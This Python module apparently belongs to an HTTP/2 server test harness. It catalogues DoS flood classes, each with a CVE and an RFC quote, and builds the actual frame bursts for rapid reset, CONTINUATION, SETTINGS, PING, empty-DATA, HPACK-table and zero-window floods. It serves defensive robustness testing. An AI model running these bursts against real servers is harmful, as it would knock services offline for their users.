"""The HTTP/2 flood catalogue as data, and the pure verdict on one flood (I-H2-FLOOD).

How this works: a ``FloodClass`` says what one burst of a flood is (a pure builder over a
``FloodState`` that carries stream ids and the HPACK encoder from burst to burst), what is
sent once before the first burst, and which RFC text or CVE makes it a denial-of-service
vector. The slice walker (``actors.h2_flood``) sends bursts on one connection within
``FloodBounds`` while control requests run on other connections, then hands what it saw to
``protocols.h2_flood_verdict.judge``.

Why resource verdicts and not protocol ones: RFC 9113 asks for limits but names none.
§10.5: "An endpoint that doesn't monitor use of these features exposes itself to a risk of
denial of service. Implementations SHOULD track the use of these features and set limits on
their use. An endpoint MAY treat activity that is suspicious as a connection error (Section
5.4.1) of type ENHANCE_YOUR_CALM." So any way of bounding a flood passes, and so does
absorbing it; what fails is the harm: other clients' requests failing or slowed far beyond
noise, or memory the flood took and kept.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import hpack

from protocols import h2_frames as fr
from protocols.h2_frames import hpack_int

#: RFC 9113 §10.5 (the sentence every flood class falls under).
Q_MONITOR = ("An endpoint that doesn't monitor use of these features exposes itself to a "
             "risk of denial of service. Implementations SHOULD track the use of these "
             "features and set limits on their use.")
Q_SETTINGS = ("The SETTINGS frame might also be abused to cause a peer to expend "
              "additional processing time.")
Q_SMALL_FRAMES = ("Large numbers of small or empty frames can be abused to cause a peer to "
                  "expend time processing frame headers.")
Q_STATE = ("Both field section compression and flow control depend on a commitment of a "
           "greater amount of state. Settings for these features ensure that memory "
           "commitments for these features are strictly bounded.")
#: Rapid reset: a reset stream is "closed" at once, so it no longer counts toward
#: SETTINGS_MAX_CONCURRENT_STREAMS while the work it started may go on (RFC 9113 §5.1.2).
#: (RFC 7540's "Processing capacity cannot be guarded as effectively as state capacity" is
#: not in RFC 9113.)
Q_RESET = ('[§5.1.2] Streams that are in the "open" state or in either of the "half-closed" '
           "states count toward the maximum number of streams that an endpoint is permitted "
           f"to open. [§10.5] {Q_MONITOR}")
#: RFC 9113 §10.5.1.
Q_FIELD_BLOCK = ("A large field block (Section 4.3) can cause an implementation to commit a "
                 "large amount of state.")
#: RFC 7541 §6.3 (HPACK dynamic table size update).
Q_TABLE_UPDATE = ("The new maximum size MUST be lower than or equal to the limit determined "
                  "by the protocol using HPACK. A value that exceeds this limit MUST be "
                  "treated as a decoding error.")

#: Stream ids are 31 bits (§5.1.1); a flood stops before running out of client ids.
LAST_CLIENT_STREAM = (1 << 31) - 1
#: Size of each literal field a CONTINUATION or HPACK flood carries.
FIELD_VALUE_LEN = 3000
#: A dynamic table size far above any SETTINGS_HEADER_TABLE_SIZE a server advertises.
HUGE_TABLE_SIZE = 1 << 30


@dataclass(frozen=True)
class FloodBounds:
    """How far one flood goes: whichever limit comes first ends it."""

    max_frames: int = 50_000
    #: Octets sent: a CONTINUATION or HPACK flood carries ~15 KiB per frame.
    max_bytes: int = 128 * 1024 * 1024
    max_seconds: float = 3.0
    #: A send that cannot finish in this long means the server stopped reading.
    send_timeout_s: float = 1.0


@dataclass
class FloodState:
    """What a flood carries from burst to burst on its one connection."""

    authority: str
    path: str
    scheme: str
    next_stream_id: int = 1
    encoder: hpack.Encoder = field(default_factory=hpack.Encoder)
    serial: int = 0

    def new_stream(self) -> int:
        sid = self.next_stream_id
        self.next_stream_id += 2
        return sid

    @property
    def exhausted(self) -> bool:
        return self.next_stream_id > LAST_CLIENT_STREAM - 4096

    def request_block(self, method: str = "GET") -> bytes:
        return fr.header_block(fr.request_fields(method, self.authority, self.path,
                                                 self.scheme), self.encoder)


#: A burst: the bytes to send and how many frames they hold.
Burst = tuple[bytes, int]


@dataclass(frozen=True)
class FloodClass:
    name: str
    #: CVE and RFC section the flood comes from.
    reference: str
    #: Verbatim RFC text that makes it a denial-of-service vector.
    quote: str
    #: What a server that neither bounds nor absorbs it suffers.
    harm: str
    burst: Callable[[FloodState], Burst]
    #: Sent once after the connection preface, before the first burst.
    opening: Callable[[FloodState], Burst] = lambda state: (b"", 0)
    #: Our SETTINGS in the connection preface (None: the defaults).
    preface_settings: Mapping[int, int] | None = None

    @property
    def rfc(self) -> str:
        """What results and reports print beside a failing case (``coordinator.results``)."""
        return self.reference


def literal_field(name: bytes, value: bytes, indexed: bool) -> bytes:
    """RFC 7541 §6.2.1 (with incremental indexing) or §6.2.2 (without), new name, no
    Huffman coding: built by hand because a conforming encoder would evict or refuse."""
    head = b"\x40" if indexed else b"\x00"
    return head + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def _rapid_reset(state: FloodState) -> Burst:
    out = bytearray()
    pairs = 0
    while pairs < 100 and not state.exhausted:
        pairs += 1
        sid = state.new_stream()
        out += fr.headers(sid, state.request_block())
        out += fr.rst_stream(sid, fr.ErrorCode.CANCEL)
    return bytes(out), 2 * pairs


def _continuation_open(state: FloodState) -> Burst:
    sid = state.new_stream()
    return fr.headers(sid, state.request_block(), end_headers=False), 1


def _continuation(state: FloodState) -> Burst:
    sid = state.next_stream_id - 2  # the stream the opening HEADERS left unfinished
    out = bytearray()
    for _ in range(20):
        state.serial += 1
        block = b"".join(literal_field(b"x-flood-%d-%d" % (state.serial, i),
                                       b"c" * FIELD_VALUE_LEN, indexed=False)
                         for i in range(5))
        out += fr.continuation(sid, block, end_headers=False)
    return bytes(out), 20


def _settings(state: FloodState) -> Burst:
    frame = fr.settings_frame({fr.Setting.INITIAL_WINDOW_SIZE: 65535,
                               fr.Setting.MAX_CONCURRENT_STREAMS: 100})
    return frame * 200, 200


def _ping(state: FloodState) -> Burst:
    out = bytearray()
    for _ in range(200):
        state.serial += 1
        out += fr.ping(state.serial.to_bytes(8, "big"))
    return bytes(out), 200


def _empty_data_open(state: FloodState) -> Burst:
    sid = state.new_stream()
    return fr.headers(sid, state.request_block("POST"), end_stream=False), 1


def _empty_data(state: FloodState) -> Burst:
    sid = state.next_stream_id - 2
    return fr.data(sid, b"", end_stream=False) * 200, 200


def _hpack_table(state: FloodState) -> Burst:
    """HEAD requests (no body, so streams close at once) whose header blocks open with a
    dynamic table size update far above the server's limit, then fields with incremental
    indexing (~45 KB a block, in a HEADERS and two CONTINUATION frames): a decoder that
    honours the size keeps them all."""
    out = bytearray()
    blocks = 0
    while blocks < 4 and not state.exhausted:
        blocks += 1
        sid = state.new_stream()
        first = bytearray(hpack_int(HUGE_TABLE_SIZE, 5, 0x20))
        first += fr.header_block(fr.request_fields("HEAD", state.authority, state.path,
                                                   state.scheme), hpack.Encoder())
        first += _indexed_fields(state, 5)
        out += fr.headers(sid, bytes(first), end_headers=False)
        out += fr.continuation(sid, _indexed_fields(state, 5), end_headers=False)
        out += fr.continuation(sid, _indexed_fields(state, 5), end_headers=True)
    return bytes(out), 3 * blocks


def _indexed_fields(state: FloodState, count: int) -> bytes:
    state.serial += 1
    return b"".join(literal_field(b"x-table-%d-%d" % (state.serial, i), b"t" * FIELD_VALUE_LEN,
                                  indexed=True) for i in range(count))


def _zero_window(state: FloodState) -> Burst:
    """Requests whose responses the server may not send (our initial window is 0)."""
    out = bytearray()
    count = 0
    while count < 20 and not state.exhausted:
        out += fr.headers(state.new_stream(), state.request_block())
        count += 1
    return bytes(out), count


CATALOGUE: tuple[FloodClass, ...] = (
    FloodClass("rapid_reset", "CVE-2023-44487; RFC 9113 §10.5, §5.1.2", Q_RESET,
               "requests cancelled at once still start work that other clients wait for",
               _rapid_reset),
    FloodClass("continuation", "CVE-2024-27316; RFC 9113 §10.5.1, §4.3", Q_FIELD_BLOCK,
               "header fragments without END_HEADERS buffered or processed without limit",
               _continuation, opening=_continuation_open),
    FloodClass("settings", "CVE-2019-9515; RFC 9113 §10.5", Q_SETTINGS,
               "every SETTINGS frame costs processing and an ACK", _settings),
    FloodClass("ping", "CVE-2019-9512; RFC 9113 §10.5, §6.7", Q_SMALL_FRAMES,
               "every PING costs processing and a PING ACK", _ping),
    FloodClass("empty_data", "CVE-2019-9518; RFC 9113 §10.5", Q_SMALL_FRAMES,
               "empty DATA frames cost a wake-up each and carry nothing", _empty_data,
               opening=_empty_data_open),
    FloodClass("hpack_table", "CVE-2016-6581; RFC 7541 §6.3, §7.3; RFC 9113 §10.5",
               Q_TABLE_UPDATE, "a dynamic table that grows to what the client asks for",
               _hpack_table),
    FloodClass("zero_window", "CVE-2019-9517; RFC 9113 §10.5, §6.9", Q_STATE,
               "responses that cannot be sent (window 0) buffered per stream without limit",
               _zero_window, preface_settings={fr.Setting.ENABLE_PUSH: 0,
                                               fr.Setting.INITIAL_WINDOW_SIZE: 0}),
)

BY_NAME: dict[str, FloodClass] = {flood.name: flood for flood in CATALOGUE}
